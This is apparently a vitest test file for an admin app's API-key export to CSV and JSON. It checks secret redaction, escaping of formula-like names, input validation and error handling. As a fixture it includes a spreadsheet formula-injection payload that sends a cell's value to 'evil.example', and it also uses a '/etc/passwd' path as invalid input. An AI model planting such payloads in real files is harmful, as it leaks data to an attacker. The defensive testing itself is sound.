/**
 * export:keys through the real core (dispatcher, contract, keys service, cache) on a fake server, with
 * the recording save dialog and real files in a temporary folder.
 */
import { parse } from 'csv-parse/sync';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { KEYS_CSV_HEADER, KeysExportDocumentSchema } from '../../../../src/main/exports/keys-inventory.js';
import { EXPORT_KEYS_MAX } from '../../../../src/shared/ipc/export.js';
import { hashSecret } from '../../../../src/shared/key-format.js';
import { createRecordingSaveFile } from '../../../helpers/fake-save-file.js';
import { makeCore, NEW_KEY } from '../../../helpers/test-core.js';

const folders: string[] = [];
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

async function setUp(options: { withDialog?: boolean } = {}) {
  const folder = mkdtempSync(join(tmpdir(), 'rakerone-export-'));
  folders.push(folder);
  const dialog = createRecordingSaveFile(folder);
  const t = await makeCore({ deps: options.withDialog === false ? {} : { saveFile: dialog } });
  return { ...t, folder, dialog };
}

async function withKeys(t: Awaited<ReturnType<typeof setUp>>) {
  await t.connect();
  const formula = await t.call('keys:create', {
    ...NEW_KEY,
    name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    allowedAddresses: ['203.0.113.7', '2001:db8::/32'],
  });
  const plus = await t.call('keys:create', { name: '+1', capabilities: [], canImpersonate: true });
  const plain = await t.call('keys:create', { name: 'Données, "nightly" 日本', capabilities: ['data-record:read'], canImpersonate: false });
  await t.call('keys:revoke', { id: plain.key.id });
  return { formula, plus, plain, secrets: [formula.secret, plus.secret, plain.secret] };
}

function expectNoSecrets(content: string, secrets: string[]) {
  for (const secret of secrets) {
    expect(content).not.toContain(secret);
    expect(content).not.toContain(hashSecret(secret));
  }
}

describe('export:keys', () => {
  it('CSV: asks the dialog, writes the rows asked for in their order, formula-looking names stay text, no secret or hash', async () => {
    const t = await setUp();
    const { formula, plus, plain, secrets } = await withKeys(t);
    const result = await t.call('export:keys', { format: 'csv', ids: [plain.key.id, formula.key.id, plus.key.id] });

    expect(t.dialog.requests).toEqual([
      {
        title: 'Export API keys',
        defaultName: expect.stringMatching(/^acme-api-keys-\d{4}-\d{2}-\d{2}\.csv$/),
        filter: { name: 'CSV (spreadsheet)', extensions: ['csv'] },
      },
    ]);
    const path = join(t.folder, t.dialog.requests[0]!.defaultName);
    expect(result).toEqual({
      status: 'written',
      format: 'csv',
      path,
      rows: 3,
      skipped: 0,
      source: { kind: 'server', asOf: expect.any(String), complete: true },
    });

    const content = readFileSync(path, 'utf8');
    expectNoSecrets(content, secrets);
    const [header, ...rows] = parse(content, { bom: true }) as string[][];
    expect(header).toEqual([...KEYS_CSV_HEADER]);
    expect(rows.map((row) => row[0])).toEqual(['Données, "nightly" 日本', `'${formula.key.name}`, "'+1"]);
    const byName = Object.fromEntries(rows.map((row) => [row[0], Object.fromEntries(KEYS_CSV_HEADER.map((column, i) => [column, row[i]]))]));
    expect(byName["'+1"]).toMatchObject({
      Permissions: 'No permissions',
      'Can impersonate': 'Yes',
      Status: 'Active',
      'Last used (UTC)': 'Never',
      'Expires (UTC)': 'Never',
      'Allowed addresses': 'From any address',
      'Key ID': plus.key.id,
    });
    expect(byName[`'${formula.key.name}`]!['Allowed addresses']).toBe('203.0.113.7/32; 2001:db8::/32');
    expect(byName['Données, "nightly" 日本']).toMatchObject({ Permissions: 'Read records', 'Can impersonate': 'No', Status: 'Revoked', Hint: plain.key.hint });
    expect(byName["'+1"]!['Created at (UTC)']).toBe(plus.key.createdAt.slice(0, 19).replace('T', ' '));
  });

  it('JSON: the documented, versioned shape with exact values', async () => {
    const t = await setUp();
    const { formula, plus, secrets } = await withKeys(t);
    const result = await t.call('export:keys', { format: 'json', ids: [formula.key.id, plus.key.id] });
    if (result.status !== 'written') throw new Error('not written');
    expect(t.dialog.requests[0]!.filter).toEqual({ name: 'JSON', extensions: ['json'] });
    const content = readFileSync(result.path, 'utf8');
    expectNoSecrets(content, secrets);
    const document = KeysExportDocumentSchema.parse(JSON.parse(content));
    expect(document).toMatchObject({ format: 'rakerone-admin/api-keys', version: 1, organization: { slug: 'acme' }, list: { source: 'server' } });
    expect(document.exportedAt).toBe(new Date(t.clock.now()).toISOString());
    expect(document.keys.map((key) => [key.name, key.status, key.canImpersonate])).toEqual([
      [formula.key.name, 'active', false],
      ['+1', 'active', true],
    ]);
    expect(document.keys[0]!.permissions).toEqual(['data-record:read', 'data-record:write']);
    expect(document.keys.map((key) => [key.allowedAddresses, key.suspension])).toEqual([
      [['203.0.113.7/32', '2001:db8::/32'], null],
      [null, null],
    ]);
  });

  it('a cancelled dialog: no error, nothing written', async () => {
    const t = await setUp();
    const { plus } = await withKeys(t);
    t.dialog.answerNext('cancel');
    expect(await t.call('export:keys', { format: 'csv', ids: [plus.key.id] })).toEqual({ status: 'cancelled' });
    expect(readdirSync(t.folder)).toEqual([]);
  });

  it('the chosen path is used as it is; an existing file is replaced whole', async () => {
    const t = await setUp();
    const { plus } = await withKeys(t);
    const path = join(t.folder, 'inventory for the auditors.txt');
    writeFileSync(path, 'old content that is longer than the new one '.repeat(100));
    t.dialog.answerNext({ path });
    expect(await t.call('export:keys', { format: 'json', ids: [plus.key.id] })).toMatchObject({ status: 'written', path });
    expect(KeysExportDocumentSchema.parse(JSON.parse(readFileSync(path, 'utf8'))).keys).toHaveLength(1);
    expect(readdirSync(t.folder)).toEqual(['inventory for the auditors.txt']);
  });

  it('a write failure is a clear error and leaves nothing behind', async () => {
    const t = await setUp();
    const { plus } = await withKeys(t);
    t.dialog.answerNext({ path: join(t.folder, 'gone', 'keys.csv') });
    const result = await t.raw('export:keys', { format: 'csv', ids: [plus.key.id] });
    expect(result).toEqual({
      ok: false,
      error: { code: 'INTERNAL', message: "Couldn't save keys.csv: the folder does not exist. Nothing was written; choose another place and try again." },
    });
    expect(readdirSync(t.folder)).toEqual([]);
  });

  it('ids no longer in the list are counted as skipped; a repeated id is exported once', async () => {
    const t = await setUp();
    const { plus } = await withKeys(t);
    const result = await t.call('export:keys', { format: 'csv', ids: [plus.key.id, plus.key.id, 'ffffffff-ffff-4fff-8fff-ffffffffffff'] });
    expect(result).toMatchObject({ status: 'written', rows: 1, skipped: 1 });
  });

  it('input is bounded and parsed: no ids, too many ids, a foreign format, extra fields', async () => {
    const t = await setUp();
    await t.connect();
    for (const input of [
      { format: 'csv', ids: [] },
      { format: 'csv', ids: Array.from({ length: EXPORT_KEYS_MAX + 1 }, (_, i) => `id-${i}`) },
      { format: 'xlsx', ids: ['a'] },
      { format: 'csv', ids: ['a'], path: '/etc/passwd' },
      { format: 'csv', ids: ['x'.repeat(101)] },
    ]) {
      const result = await t.raw('export:keys', input as never);
      expect(result, JSON.stringify(input).slice(0, 80)).toMatchObject({ ok: false, error: { code: 'VALIDATION' } });
    }
    expect(t.dialog.requests).toEqual([]);
  });

  it('signed out: UNAUTHORIZED before any dialog opens', async () => {
    const t = await setUp();
    expect(await t.raw('export:keys', { format: 'csv', ids: ['a'] })).toMatchObject({ ok: false, error: { code: 'UNAUTHORIZED' } });
    expect(t.dialog.requests).toEqual([]);
  });

  it('offline: exported from the cache, and the JSON says so', async () => {
    const t = await setUp();
    const { plus } = await withKeys(t);
    t.server.down = true;
    await t.call('sync:now', {}).catch(() => undefined);
    const result = await t.call('export:keys', { format: 'json', ids: [plus.key.id] });
    if (result.status !== 'written') throw new Error('not written');
    const document = KeysExportDocumentSchema.parse(JSON.parse(readFileSync(result.path, 'utf8')));
    expect(document.list.source).toBe('cache');
    expect(document.list.syncedAt).not.toBeNull();
  });

  it('without a save dialog (no port given): a clear error', async () => {
    const t = await setUp({ withDialog: false });
    const { plus } = await withKeys(t);
    expect(await t.raw('export:keys', { format: 'csv', ids: [plus.key.id] })).toEqual({
      ok: false,
      error: { code: 'INTERNAL', message: 'Saving files is not available in this window.' },
    });
  });
});
